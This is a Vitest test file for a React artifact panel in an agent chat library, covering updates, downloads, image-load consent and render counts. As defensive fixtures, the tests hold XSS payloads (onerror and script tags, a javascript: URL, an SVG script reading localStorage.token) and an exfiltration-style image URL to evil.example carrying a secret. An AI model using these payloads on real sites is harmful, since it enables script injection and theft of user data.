import { createAgentChat, scriptedTransport, type AgentEvent } from '@agent-chat/core';
import { AgentChatProvider } from '@agent-chat/react';
import { FRAME_CLOCK_TIMERS } from '@agent-chat/testing';
import { act, cleanup, render, screen, waitFor } from '@testing-library/react';
import { userEvent } from '@testing-library/user-event';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { renderCounting } from '../../test/render-counts.js';
import { ArtifactPanel } from './artifact-panel.js';
import { HOSTILE_TEXT, artifact, words } from '../../stories/support/scripts.js';

afterEach(() => {
  cleanup();
  vi.restoreAllMocks();
  vi.useRealTimers();
});

async function panelAfter(events: AgentEvent[]) {
  const transport = scriptedTransport([[...events, { type: 'turn-end', finishReason: 'stop' }]], { delayMs: 0 });
  const chat = createAgentChat({ transport });
  const view = render(
    <AgentChatProvider chat={chat}>
      <ArtifactPanel />
    </AgentChatProvider>,
  );
  // Not inside act(): each store update commits as it would in an app, so the update highlight is seen.
  await chat.send('go');
  await waitFor(() => expect(view.container.querySelector('.acu-artifacts')!.getAttribute('data-state')).toBe('filled'));
  return view;
}

describe('ArtifactPanel', () => {
  it('replaces a same-name artifact in place and highlights the update for highlightMs, then settles', async () => {
    // Fake time: events every 40 ms (v1 at 40, v2 at 120, the loose one at 160), commits per (fake) frame; the commit
    // scheduler counts its interval on performance.now(), so the clock is fake too.
    vi.useFakeTimers({ toFake: [...FRAME_CLOCK_TIMERS] });
    const events: AgentEvent[] = [artifact('notes.md', '# v1'), { type: 'passthrough' }, artifact('notes.md', '# v2'), artifact(undefined, 'loose')];
    const chat = createAgentChat({ transport: scriptedTransport([[...events, { type: 'turn-end', finishReason: 'stop' }]], { delayMs: 40 }) });
    const { container } = render(
      <AgentChatProvider chat={chat}>
        <ArtifactPanel highlightMs={1000} />
      </AgentChatProvider>,
    );
    const sent = chat.send('go');
    await act(() => vi.advanceTimersByTimeAsync(300));
    await sent;
    const items = container.querySelectorAll('.acu-artifact');
    expect(items).toHaveLength(2);
    expect(items[0]!.textContent).toContain('v2');
    expect(items[1]!.querySelector('h3')!.textContent).toBe('Untitled 1');
    expect(items[0]!.getAttribute('data-state')).toBe('updated');
    expect(container.querySelector('[aria-live="polite"]')!.textContent).toBe('notes.md updated (version 2)');
    // v2 was committed within a frame of 120 ms: highlighted until 1,120–1,136 ms.
    await act(() => vi.advanceTimersByTimeAsync(1100 - 300));
    expect(items[0]!.getAttribute('data-state')).toBe('updated');
    await act(() => vi.advanceTimersByTimeAsync(100));
    expect(items[0]!.getAttribute('data-state')).toBe('idle');
    expect(items[1]!.getAttribute('data-state')).toBe('idle');
  });

  it('offers a Blob download with the artifact text, and copies code', async () => {
    const blobs: Blob[] = [];
    vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
      blobs.push(blob as Blob);
      return `blob:test/${blobs.length}`;
    });
    vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => undefined);
    const user = userEvent.setup();
    // user-event installs its own clipboard: spy on it.
    const writeText = vi.spyOn(navigator.clipboard, 'writeText');
    await panelAfter([artifact('sum.py', 'def total(items):\n    return sum(items)\n')]);
    const link = await screen.findByRole('link', { name: 'Download sum.py' });
    expect(link.getAttribute('download')).toBe('sum.py');
    expect(link.getAttribute('href')).toMatch(/^blob:test\//);
    expect(await blobs.at(-1)!.text()).toBe('def total(items):\n    return sum(items)\n');
    await user.click(screen.getByRole('button', { name: 'Copy code' }));
    expect(writeText).toHaveBeenCalledWith('def total(items):\n    return sum(items)\n');
    await waitFor(() => expect(screen.getByRole('button', { name: 'Copy code' }).textContent).toBe('Copied'));
  });

  it('renders hostile artifact content inert: markdown, html-typed text, and media URLs', async () => {
    const { container } = await panelAfter([
      artifact('evil.md', HOSTILE_TEXT),
      artifact('page.html', '<img src=x onerror="window.__pwned = 1"><script>window.__pwned = 1</script>'),
      { type: 'artifact-upsert', artifact: { name: 'pic', parts: [{ media: { url: 'javascript:alert(1)', contentType: 'image/png' } }] } },
    ]);
    const body = [...container.querySelectorAll('.acu-artifact__body')];
    expect(body).toHaveLength(3);
    for (const part of body) expect(part.querySelectorAll('script, img, iframe, [onerror], [src]')).toHaveLength(0);
    for (const link of container.querySelectorAll('.acu-artifact__body a')) expect(link.getAttribute('href')).toMatch(/^https:/);
    expect(body[1]!.textContent).toContain('<img src=x onerror="window.__pwned = 1">');
    expect(body[2]!.textContent).toContain('not shown');
    expect((window as { __pwned?: number }).__pwned).toBeUndefined();
  });

  it('downloads HTML and SVG artifacts as application/octet-stream, never as a document that could run', async () => {
    const blobs: Blob[] = [];
    vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
      blobs.push(blob as Blob);
      return `blob:test/${blobs.length}`;
    });
    vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => undefined);
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>localStorage.token</script></svg>';
    const { container } = await panelAfter([
      artifact('page.html', '<script>window.__pwned = 1</script>'),
      { type: 'artifact-upsert', artifact: { name: 'logo.svg', parts: [{ text: svg }], metadata: { contentType: 'image/svg+xml' } } },
    ]);
    await waitFor(() => expect(container.querySelectorAll('a.acu-artifact__download')).toHaveLength(2));
    expect(blobs.length).toBeGreaterThanOrEqual(2);
    for (const blob of blobs) expect(blob.type).toBe('application/octet-stream');
    for (const link of container.querySelectorAll('a.acu-artifact__download')) expect(link.hasAttribute('download')).toBe(true);
    // Shown as text, and never in a frame that shares the app's origin.
    expect(container.querySelectorAll('script, iframe:not([sandbox]), iframe[sandbox*="allow-same-origin"], object, embed')).toHaveLength(0);
    expect(container.textContent).toContain('<script>localStorage.token</script>');
  });
});

describe('ArtifactPanel under a hostile agent', () => {
  const pic = (url: string, name = 'pic'): AgentEvent => ({ type: 'artifact-upsert', artifact: { name, parts: [{ media: { url, contentType: 'image/png' } }] } });

  it('a consent covers one exact URL: the same-named artifact updated to another URL asks again', async () => {
    const end: AgentEvent = { type: 'turn-end', finishReason: 'stop' };
    const chat = createAgentChat({ transport: scriptedTransport([[pic('https://cdn.example/chart.png'), end], [pic('https://evil.example/leak.png?d=secret'), end]], { delayMs: 0 }) });
    const user = userEvent.setup();
    const { container } = render(
      <AgentChatProvider chat={chat}>
        <ArtifactPanel />
      </AgentChatProvider>,
    );
    await chat.send('chart');
    await user.click(await screen.findByRole('button', { name: 'Load image from cdn.example' }));
    expect(container.querySelector('.acu-artifact img')?.getAttribute('src')).toBe('https://cdn.example/chart.png');
    await chat.send('update it');
    await screen.findByRole('button', { name: 'Load image from evil.example' });
    expect(container.querySelectorAll('.acu-artifact img')).toHaveLength(0);
  });

  it('"always load from this host in this conversation": later images from that origin load, others and another chat ask', async () => {
    const end: AgentEvent = { type: 'turn-end', finishReason: 'stop' };
    const turns = [[pic('https://cdn.example/a.png'), end], [pic('https://cdn.example/b.png?v=2'), end], [pic('https://evil.example/c.png', 'other'), end]];
    const chat = createAgentChat({ transport: scriptedTransport(turns, { delayMs: 0 }) });
    const user = userEvent.setup();
    const view = render(
      <AgentChatProvider chat={chat}>
        <ArtifactPanel />
      </AgentChatProvider>,
    );
    await chat.send('a');
    await user.click(await screen.findByRole('button', { name: 'Always load from cdn.example in this conversation' }));
    expect(view.container.querySelector('.acu-artifact img')?.getAttribute('src')).toBe('https://cdn.example/a.png');
    // Another URL of that origin: no prompt. Another origin: asked.
    await chat.send('b');
    await waitFor(() => expect(view.container.querySelector('.acu-artifact img')?.getAttribute('src')).toBe('https://cdn.example/b.png?v=2'));
    await chat.send('c');
    await screen.findByRole('button', { name: 'Load image from evil.example' });
    expect([...view.container.querySelectorAll('.acu-artifact img')].map((image) => image.getAttribute('src'))).toEqual(['https://cdn.example/b.png?v=2']);
    // Another conversation (another chat) starts with no host allowed.
    const other = createAgentChat({ transport: scriptedTransport([[pic('https://cdn.example/a.png'), end]], { delayMs: 0 }) });
    view.rerender(
      <AgentChatProvider chat={other}>
        <ArtifactPanel />
      </AgentChatProvider>,
    );
    await other.send('a');
    await screen.findByRole('button', { name: 'Load image from cdn.example' });
    expect(view.container.querySelectorAll('.acu-artifact img')).toHaveLength(0);
  });

  it('a remote media download opens in a new tab without opener or referrer; same-origin and blob: URLs download in place', async () => {
    const { container } = await panelAfter([pic('https://evil.example/fake-login'), pic('/files/chart.png', 'local')]);
    await waitFor(() => expect(container.querySelectorAll('a.acu-artifact__download')).toHaveLength(2));
    const [remote, local] = [...container.querySelectorAll('a.acu-artifact__download')];
    expect(remote!.getAttribute('href')).toBe('https://evil.example/fake-login');
    expect(remote!.getAttribute('target')).toBe('_blank');
    expect(remote!.getAttribute('rel')).toBe('noopener noreferrer');
    expect(local!.getAttribute('href')).toBe('/files/chart.png');
    expect(local!.hasAttribute('target')).toBe(false);
  });
});

describe('ArtifactPanel renders', () => {
  it('only when the artifacts change: 50 text tokens around one artifact render it three times at most', async () => {
    const tokens = words('one two three four five six seven eight nine ten '.repeat(5));
    const transport = scriptedTransport([[...tokens, artifact('notes.md', '# Notes'), ...tokens, { type: 'turn-end', finishReason: 'stop' }]], { delayMs: 1 });
    const chat = createAgentChat({ transport });
    const counts = renderCounting(chat, <ArtifactPanel />);
    const initial = counts.part;
    await act(() => chat.send('go'));
    await waitFor(() => expect(screen.getAllByText('notes.md').length).toBeGreaterThan(0));
    expect(counts.transcript).toBeGreaterThan(60);
    // The artifact arriving (and its highlight settling) is all that renders it, whatever the 100 tokens did.
    expect(counts.part - initial).toBeLessThanOrEqual(3);
  });
});
